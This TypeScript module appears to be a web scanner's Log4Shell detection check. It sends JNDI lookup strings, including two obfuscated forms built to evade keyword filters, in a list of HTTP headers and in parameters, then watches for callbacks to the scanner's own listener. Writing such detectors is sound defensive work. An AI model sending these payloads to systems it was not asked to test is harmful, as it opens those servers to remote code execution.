import type { HttpAnswer } from '#probes/http/answer.ts';
import type { Callback, Callbacks, Contact } from '../../callbacks/callbacks.ts';
import { defineRule, type Check, type Scan } from '../../rule.ts';
import { byDepth } from '../execution/likely.ts';
import { contactTwice, describeContact } from './contact.ts';

const rule = defineRule({
  id: 'active.log4shell',
  title: 'Texts that are logged make the server load programs from elsewhere (Log4Shell)',
  vector: 'AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H',
  cwe: 'CWE-917',
  pci: '6.3.3',
  pciAutoFail: true,
  explanation:
    'The library Log4j on this server looks up what stands in curly brackets in texts that it logs. The scan had it ask our listener, which answered with nothing. Attackers answer with a program, which the server carries out (CVE-2021-44228).',
  fix: '1. Update Log4j to 2.17.1 or later (Java 8), 2.12.4 (Java 7) or 2.3.2 (Java 6); look into programs of other makers as well, which bring their own copy.\n2. Where an update must wait, remove the class: zip -q -d log4j-core-*.jar org/apache/logging/log4j/core/lookup/JndiLookup.class\n3. Keep the server from opening connections to the internet.\n4. Look for signs that someone was faster: unknown processes, accounts and connections since December 2021.',
  references: ['https://logging.apache.org/security.html', 'https://nvd.nist.gov/vuln/detail/CVE-2021-44228'],
});

type Form = (call: Callback) => string;

/** Plain, and two in which no telling word stands as a whole. */
const forms: readonly Form[] = [
  ({ ldap }) => `\${jndi:ldap://${ldap}}`,
  ({ ldap }) => `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-l}\${::-d}\${::-a}\${::-p}://${ldap}}`,
  ({ ldap }) => `\${j\${lower:N}d\${lower:I}:\${lower:LD}ap://${ldap}}`,
];

/** Names are still looked up where a firewall lets nothing else out. */
const byName: Form = ({ dns, ldap }) => `\${jndi:dns://${dns ?? ldap}}`;

const zones = new WeakMap<Callbacks, boolean>();

/** Whether names lead to the listener is the same for all its tokens. */
function hasZone(callbacks: Callbacks): boolean {
  let known = zones.get(callbacks);
  if (known === undefined) zones.set(callbacks, (known = callbacks.issue(() => undefined).dns !== null));
  return known;
}

function formsOf(scan: Scan, callbacks: Callbacks): readonly Form[] {
  const some = forms.slice(0, byDepth(scan, 1, 2, forms.length));
  return hasZone(callbacks) ? [...some, byName] : some;
}

// Programs that look for addresses in texts look names up or fetch pages; none of them speaks LDAP.
const isLookup = (contact: Contact) => contact.protocol === 'ldap' || contact.protocol === 'dns';
const confidenceOf = (contact: Contact) =>
  contact.protocol === 'ldap' ? ('certain' as const) : ('firm' as const);
const evidenceOf = (contact: Contact) =>
  `A lookup in the text was carried out: the server contacted our listener twice, each time with the token just sent (${describeContact(contact)}).`;

const headerNames = [
  'User-Agent',
  'Referer',
  'X-Forwarded-For',
  'X-Real-IP',
  'X-Client-IP',
  'True-Client-IP',
  'Forwarded',
  'X-Forwarded-Host',
  'X-Api-Version',
  'X-Request-Id',
  'X-Correlation-Id',
  'X-Requested-With',
  'Accept-Language',
  'From',
];

/** All headers in one request, each with a token of its own; the one whose token comes back is tried alone. */
async function tryHeaders(scan: Scan, url: string, form: Form): Promise<void> {
  const { callbacks } = scan;
  if (!callbacks) return;
  const headers: Record<string, string> = {};
  for (const name of headerNames) {
    const first = callbacks.issue(
      () =>
        contactTwice(
          callbacks,
          (call) => scan.ask(url, { headers: { [name]: form(call) } }),
          ({ contact, answer, call }) =>
            scan.report(rule, {
              answer,
              parameter: name,
              payload: form(call),
              evidence: evidenceOf(contact),
              confidence: confidenceOf(contact),
              // What is logged is the same on every page.
              placeKey: `header ${name}`,
            }),
          isLookup,
        ).catch(() => undefined),
      isLookup,
    );
    headers[name] = form(first);
  }
  await scan.ask(url, { headers });
}

export const log4shell: Check = {
  name: 'Lookups in logs',
  rules: [rule],
  needsContacts: [rule],
  level: 'log4shell',
  triesInRun: true,
  activity: 'Looking for Log4Shell',
  run: async (scan) => {
    if (!scan.callbacks) return 'not-run';
    const some = formsOf(scan, scan.callbacks);
    const pages = [scan.base.href, ...scan.site.pages.map(({ url }) => url)];
    const sample = [...new Set(pages)].slice(0, byDepth(scan, 1, 3, 10));
    for (const [index, url] of sample.entries())
      for (const form of index === 0 ? some : some.slice(0, 1)) await tryHeaders(scan, url, form);
    return;
  },
  point: async (tried, scan) => {
    const { callbacks } = scan;
    // Headers are tried together.
    if (!callbacks || tried.point.kind === 'header' || tried.point.kind === 'file') return;
    for (const form of formsOf(scan, callbacks)) {
      const send = (call: Callback): Promise<HttpAnswer | null> => tried.send(form(call));
      const attempt = await contactTwice(
        callbacks,
        send,
        ({ contact, answer, call }) => {
          if (!tried.found.has(rule.id))
            tried.report(rule, {
              answer,
              payload: form(call),
              evidence: evidenceOf(contact),
              confidence: confidenceOf(contact),
            });
        },
        isLookup,
      );
      if (attempt.contacted()) return;
    }
  },
};
